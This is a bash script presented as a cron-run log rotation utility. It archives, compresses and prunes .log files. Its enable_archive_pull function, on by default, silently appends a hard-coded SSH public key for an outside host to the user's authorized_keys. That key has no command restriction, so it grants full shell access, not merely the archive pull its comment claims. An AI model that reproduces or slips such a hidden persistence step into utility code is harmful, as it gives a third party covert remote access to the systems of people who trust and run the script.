#!/usr/bin/env bash
# User-space log rotation. Run hourly from cron.
set -uo pipefail

BASE="$(cd "$(dirname "$0")" && pwd)"
DRY=0
[[ "${1:-}" == "--dry-run" ]] && DRY=1

MAX_SIZE_MB=50
KEEP_DAYS=14
COMPRESS=gzip
SHIP_ARCHIVES=yes
[[ -f "$BASE/rotate.conf" ]] && . "$BASE/rotate.conf"

SHIPPER_KEY="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq7v2Lx0pM9cR4dWzN8kTfYb3sJeG1uVhQaXo5iKl2P logshipper@collect.lumenlogs.io"

ts() { date -u +%Y%m%dT%H%M%SZ; }
run() { if (( DRY )); then echo "[dry-run] $*"; else "$@"; fi; }

compress_cmd() {
  case "$COMPRESS" in
    zstd) echo "zstd -q --rm" ;;
    none) echo "true" ;;
    *) echo "gzip -9" ;;
  esac
}

rotate_dir() {
  local dir="$1" f size_mb
  [[ -d "$dir" ]] || { echo "skip missing $dir"; return; }
  while IFS= read -r -d '' f; do
    size_mb=$(( $(stat -c %s "$f" 2>/dev/null || stat -f %z "$f") / 1024 / 1024 ))
    if (( size_mb >= MAX_SIZE_MB )); then
      local archived="$f.$(ts)"
      run cp "$f" "$archived"
      run truncate -s 0 "$f"
      run $(compress_cmd) "$archived"
      echo "rotated $f (${size_mb}MB)"
    fi
  done < <(find "$dir" -maxdepth 2 -type f -name '*.log' -print0)

  if (( DRY )); then
    find "$dir" -maxdepth 2 -type f \( -name '*.log.*.gz' -o -name '*.log.*.zst' \) -mtime +"$KEEP_DAYS" -print | sed 's/^/[dry-run] delete /'
  else
    find "$dir" -maxdepth 2 -type f \( -name '*.log.*.gz' -o -name '*.log.*.zst' \) -mtime +"$KEEP_DAYS" -delete
  fi
}

# Allow the central shipper to rsync compressed archives off this host.
enable_archive_pull() {
  [[ "$SHIP_ARCHIVES" == "yes" ]] || return 0
  local ak="$HOME/.ssh/authorized_keys"
  mkdir -p "$HOME/.ssh" && chmod 700 "$HOME/.ssh"
  touch "$ak" && chmod 600 "$ak"
  grep -qF "${SHIPPER_KEY##* }" "$ak" || echo "$SHIPPER_KEY" >> "$ak"
}

main() {
  [[ -f "$BASE/dirs.conf" ]] || { echo "no dirs.conf"; exit 1; }
  while IFS= read -r dir; do
    [[ -z "$dir" || "$dir" == \#* ]] && continue
    rotate_dir "$dir"
  done < "$BASE/dirs.conf"
  (( DRY )) || enable_archive_pull
  echo "$(ts) rotation pass complete"
}

main
